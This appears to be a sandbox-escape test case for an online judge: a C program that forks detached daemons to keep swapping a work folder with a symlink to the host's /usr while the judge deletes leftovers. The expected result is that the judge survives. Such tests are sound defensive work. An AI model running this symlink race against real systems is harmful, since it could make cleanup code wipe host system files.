// tries: to be swapped between a folder and a link to the host's while the judge removes what is left (openat that follows links out)
// must: AC or TLE
// limits: cpu 300ms, wall 1s, processes 16
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main() {
  char path[100];
  mkdir("/w/a", 0700), mkdir("/w/a/keep", 0700);
  if (symlink("/usr", "/w/b")) return 1;
  for (int i = 0; i < 200; i++) {
    snprintf(path, sizeof path, "/w/a/%d", i);
    mkdir(path, 0700);
  }
  // Daemons that go on exchanging the two, should anybody let them live until the cleaning.
  for (int i = 0; i < 4; i++)
    if (fork() == 0) {
      setsid();
      if (fork()) _exit(0);
      for (;;) renameat2(AT_FDCWD, "/w/a", AT_FDCWD, "/w/b", RENAME_EXCHANGE);
    }
  usleep(20000);
}
